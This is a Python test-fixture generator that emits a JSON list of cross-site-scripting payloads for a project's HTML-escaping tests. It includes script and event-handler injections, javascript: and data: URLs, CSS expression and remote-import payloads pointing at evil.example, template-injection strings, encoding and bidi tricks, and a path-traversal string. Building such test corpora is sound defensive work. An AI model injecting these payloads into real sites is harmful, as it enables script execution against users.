#!/usr/bin/env python3
"""Hostile strings for Cellar's escaping tests.

Every payload, if it ever reached a page unescaped, would either run script (they call
``alert(1)`` and/or set ``window.__xss=1``), load something, or break out of the markup
context it was written into. Rendered correctly, each one shows up as plain text.

    python3 xss_payloads.py --json            # JSON array on stdout (the Swift tests read it)
    python3 xss_payloads.py --write FILE      # write the same JSON to FILE
    python3 xss_payloads.py --check FILE      # exit 1 if FILE is not up to date
    from xss_payloads import PAYLOADS         # a tuple of str

Only the standard library is needed.
"""
from __future__ import annotations

import argparse
import json
import sys

_JS = "window.__xss=1;alert(1)"

# Markup contexts: element text, attribute values (quoted either way and unquoted), comments,
# raw-text elements (script/style/textarea/title), and the tags that are dangerous on their own.
_MARKUP = [
    f"<script>{_JS}</script>",
    f"<SCRIPT>{_JS}</SCRIPT>",
    f"<ScRiPt>{_JS}</sCrIpT>",
    f"<script src=data:text/javascript,{_JS}></script>",
    f"<script>/*</script><script>{_JS}//*/</script>",
    f"<scr<script>ipt>{_JS}</scr</script>ipt>",
    f"<script\x0c>{_JS}</script>",
    f"<img src=x onerror={_JS}>",
    f'<img src="x" onerror="{_JS}">',
    f"<img src=x onerror='{_JS}'>",
    f"<IMG SRC=x ONERROR={_JS}>",
    f"<img/src=x/onerror={_JS}>",
    f"<img src=x onerror=\x0b{_JS}>",
    f"<svg onload={_JS}>",
    f"<svg/onload={_JS}>",
    f"<svg><script>{_JS}</script></svg>",
    f"<svg><animate onbegin={_JS} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{_JS}"><text x="20" y="20">XSS</text></a></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={_JS}>",
    f"<body onload={_JS}>",
    f"<iframe src=javascript:{_JS}></iframe>",
    f'<iframe srcdoc="<script>{_JS}</script>"></iframe>',
    f"<object data=javascript:{_JS}></object>",
    f"<embed src=javascript:{_JS}>",
    f"<details open ontoggle={_JS}>",
    f"<input autofocus onfocus={_JS}>",
    f"<select autofocus onfocus={_JS}>",
    f"<video><source onerror={_JS}></video>",
    f"<audio src=x onerror={_JS}>",
    f"<marquee onstart={_JS}>XSS</marquee>",
    f"<div onmouseover={_JS}>hover me</div>",
    f'<a href="javascript:{_JS}">click me</a>',
    f"<form action=javascript:{_JS}><button>go</button></form>",
    f"<button formaction=javascript:{_JS}>go</button>",
    f'<base href="javascript:{_JS}//">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{_JS}">',
    f"<link rel=stylesheet href=javascript:{_JS}>",
    f"<style>@import 'javascript:{_JS}';</style>",
    f"<style>body{{background:url(javascript:{_JS})}}</style>",
    f"<template><script>{_JS}</script></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror={_JS}>\">",
    f"<xmp><script>{_JS}</script></xmp>",
    f"<plaintext><script>{_JS}</script>",
    f"<isindex action=javascript:{_JS} type=image>",
    "<!--",
    f"<!--<script>{_JS}</script>-->",
    f"--><script>{_JS}</script><!--",
    f"'--!><script>{_JS}</script>",
    f"<![CDATA[<script>{_JS}</script>]]>",
    f"<?xml version=\"1.0\"?><script>{_JS}</script>",
    f"</title><script>{_JS}</script>",
    f"</textarea><script>{_JS}</script>",
    f"</style><script>{_JS}</script>",
    f"</script><script>{_JS}</script>",
    f"</noscript><script>{_JS}</script>",
    f"</li></ul><script>{_JS}</script>",
    f"</p></section></main><script>{_JS}</script>",
    f"\"><script>{_JS}</script>",
    f"'><script>{_JS}</script>",
    f"\"><img src=x onerror={_JS}>",
    f"'><img src=x onerror={_JS}>",
    f"\" onmouseover=\"{_JS}",
    f"' onmouseover='{_JS}",
    f"\" autofocus onfocus=\"{_JS}",
    f" onfocus={_JS} autofocus ",
    f"x onerror={_JS}",
    f"\" style=\"background:url(javascript:{_JS})",
    f"\"/><svg onload={_JS}>",
    "\"",
    "'",
    "<",
    ">",
    "&",
    "&amp;",
    "&lt;script&gt;",
    "\"'><&",
    "a < b && c > d",
    "<>",
    "</",
    "<a",
    "<!doctype html>",
]

# URL contexts: what must never become a live href/src/action.
_URLS = [
    f"javascript:{_JS}",
    f"JavaScript:{_JS}",
    f"JAVASCRIPT:{_JS}",
    f" javascript:{_JS}",
    f"\tjava\nscript:{_JS}",
    f"java\tscript:{_JS}",
    f"javascript&colon;{_JS}",
    f"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{_JS}",
    f"&#x6A;avascript:{_JS}",
    f"javascript%3A{_JS}",
    f"\x01javascript:{_JS}",
    f"javascript://%0a{_JS}",
    f"javascript://comment%0d%0a{_JS}",
    f"data:text/html,<script>{_JS}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTthbGVydCgxKTwvc2NyaXB0Pg==",
    f"DATA:text/html,<script>{_JS}</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "VBScript:MsgBox(\"XSS\")",
    "livescript:[alert(1)]",
    f"//evil.example/{_JS}",
    "https://evil.example/\"><script>alert(1)</script>",
    f"/people?q=<script>{_JS}</script>",
    "../../../../etc/passwd",
]

# CSS contexts.
_STYLE = [
    "expression(alert(1))",
    "width: expression(alert(1))",
    "x:expr/**/ession(alert(1))",
    f"url(javascript:{_JS})",
    f"url('javascript:{_JS}')",
    f"background-image: url(\"javascript:{_JS}\")",
    "-moz-binding: url(http://evil.example/xss.xml#xss)",
    "behavior: url(xss.htc)",
    "@import 'http://evil.example/xss.css';",
    "</style><img src=x onerror=alert(1)>",
    "\\3c script\\3e alert(1)\\3c /script\\3e",
]

# JavaScript string/template contexts (if someone ever inlines data in a script block).
_SCRIPT_STRINGS = [
    f"';{_JS};//",
    f"\";{_JS};//",
    f"`;{_JS};//",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{7*7}}",
    "{{#x}}{{/x}}{{^y}}{{/y}}{{{triple}}}{{>partial}}{{!comment}}",
    "\\\";alert(1);//",
    "</script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
]

# Encodings and odd characters: these must come out exactly as written, as text.
_ENCODINGS = [
    f"&#x3C;script&#x3E;{_JS}&#x3C;/script&#x3E;",
    f"&#60;script&#62;{_JS}&#60;/script&#62;",
    f"&#0000060;script&#0000062;{_JS}",
    f"&lt;script&gt;{_JS}&lt;/script&gt;",
    f"%3Cscript%3E{_JS}%3C%2Fscript%3E",
    f"%253Cscript%253E{_JS}",
    f"+ADw-script+AD4-{_JS}+ADw-/script+AD4-",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    # Overlong UTF-8 for '<' (C0 BC) and '>' (C0 BE), written out as text, and as the
    # characters a Latin-1 decoder would make of those bytes.
    f"%C0%BCscript%C0%BE{_JS}%C0%BC/script%C0%BE",
    "\\xC0\\xBCscript\\xC0\\xBE",
    f"\u00c0\u00bcscript\u00c0\u00be{_JS}",
    # Fullwidth and other look-alike brackets.
    f"\uff1cscript\uff1e{_JS}\uff1c/script\uff1e",
    f"\u2039script\u203a{_JS}",
    # NUL and other control characters.
    f"<scr\x00ipt>{_JS}</scr\x00ipt>",
    "nul\x00byte",
    f"java\x00script:{_JS}",
    "bell\x07backspace\x08vtab\x0bformfeed\x0c",
    "escape\x1b[31mred\x1b[0m",
    "line\rbreak\r\ncrlf\nlf",
    "tab\tseparated\tvalues",
    # Zero-width, bidi and other invisible characters.
    f"zero\u200bwidth\u200cnon\u200djoiner\u2060word\ufeffbom<script>{_JS}</script>",
    "java\u200bscript:alert(1)",
    "\u202eevil\u202c reversed \u202dforce\u202c",
    "\u2067isolate\u2069 \u2066ltr\u2069 \u2068first\u2069",
    "admin\u202e\u2066cod.exe\u2069\u2066",
    "\u0645\u0631\u062d\u0628\u0627 <b>\u05e9\u05dc\u05d5\u05dd</b>",
    "soft\u00adhyphen and\u00a0nbsp and\u3000ideographic space",
    "line\u2028separator\u2029paragraph",
    # Combining marks, astral planes and emoji.
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dA\u036b\u0357",
    "\U0001f600\U0001f680 <3 \U0001f469\u200d\U0001f4bb \U0001f1fa\U0001f1f8 \U0001f44d\U0001f3fd",
    "\U0001d573\U0001d58a\U0001d58c\U0001d586 \U00010348 \U0002a6d6",
    "\u00e9\u0301 caf\u00e9 cafe\u0301 \u212b \u2126",
    "\ufffd replacement \ufffe\uffff noncharacters",
    "\ud7ff\ue000 private use",
    # Very long and whitespace-only strings.
    "A" * 4096,
    "<" * 512,
    " ",
    "\u00a0",
]

_HANDLERS = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart",
             "onpointerenter", "ontoggle", "onbegin", "onpageshow"]


def _generated() -> list[str]:
    """Each event handler in the three attribute-breakout shapes."""
    out = []
    for handler in _HANDLERS:
        out.append(f"<div {handler}={_JS}>{handler}</div>")
        out.append(f"\" {handler}=\"{_JS}\" x=\"")
        out.append(f"' {handler}='{_JS}' x='")
    return out


def _unique(items: list[str]) -> tuple[str, ...]:
    seen: dict[str, None] = {}
    for item in items:
        seen.setdefault(item, None)
    return tuple(seen)


PAYLOADS: tuple[str, ...] = _unique(_MARKUP + _URLS + _STYLE + _SCRIPT_STRINGS + _ENCODINGS + _generated())


def to_json() -> str:
    return json.dumps(list(PAYLOADS), ensure_ascii=True, indent=1) + "\n"


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    group = parser.add_mutually_exclusive_group()
    group.add_argument("--json", action="store_true", help="print the payloads as a JSON array")
    group.add_argument("--write", metavar="FILE", help="write the JSON array to FILE")
    group.add_argument("--check", metavar="FILE", help="fail if FILE differs from the current list")
    args = parser.parse_args(argv)
    if args.write:
        with open(args.write, "w", encoding="ascii", newline="\n") as f:
            f.write(to_json())
        print(f"wrote {len(PAYLOADS)} payloads to {args.write}", file=sys.stderr)
    elif args.check:
        with open(args.check, encoding="ascii") as f:
            if f.read() != to_json():
                print(f"{args.check} is stale: run python3 xss_payloads.py --write {args.check}", file=sys.stderr)
                return 1
        print(f"{args.check}: {len(PAYLOADS)} payloads, up to date", file=sys.stderr)
    elif args.json:
        sys.stdout.write(to_json())
    else:
        print(f"{len(PAYLOADS)} payloads; use --json to print them", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
